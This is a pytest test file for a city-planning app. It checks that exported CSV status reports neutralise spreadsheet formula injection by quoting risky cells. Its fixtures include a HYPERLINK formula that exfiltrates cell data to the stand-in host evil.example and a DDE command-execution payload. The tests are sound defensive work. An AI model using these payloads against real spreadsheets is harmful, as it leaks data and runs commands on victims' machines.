"""Status report CSV opens in a spreadsheet as text: a cell that would run as a formula gets a
leading quote (OWASP), plain numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from starlette.testclient import TestClient

from domstadt.core.auth.permissions import system_actor
from domstadt.core.csv_cells import csv_text, safe_cell
from domstadt.core.db import Database
from domstadt.masterplan import report_service
from tests.masterplan.conftest import add_measure

TITLES = {
    "F-1": '=HYPERLINK("https://evil.example/?d="&A1,"Details")',
    "F-2": "+49 221 221-0",
    "F-3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "F-4": "-12.5",
    "F-5": "Radwege – 2. Ausbaustufe",
}


def test_report_csv_neutralises_formulas(client: TestClient, plan: Database) -> None:
    for code, title in TITLES.items():
        add_measure(plan, code=code, title=title)
    with plan.session() as session:
        report = report_service.report_create(session, actor=system_actor("t"))
    answer = client.get(f"/berichte/{report.id}.csv")
    assert answer.status_code == 200
    titles = {r["code"]: r["title"] for r in csv.DictReader(io.StringIO(answer.text))}
    assert titles == {
        "F-1": "'" + TITLES["F-1"],
        "F-2": "'" + TITLES["F-2"],
        "F-3": "'" + TITLES["F-3"],
        "F-4": "-12.5",
        "F-5": TITLES["F-5"],
    }


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1,5", "-1,5"),
        ("+3e5", "+3e5"),
        ("-", "'-"),
        ("- Punkt", "'- Punkt"),
        (-4, -4),
        (None, None),
    ],
)
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_csv_text_writes_empty_cells_for_none() -> None:
    assert csv_text(["a", "=b"], [[None, "=c"]]) == "a,'=b\n,'=c\n"
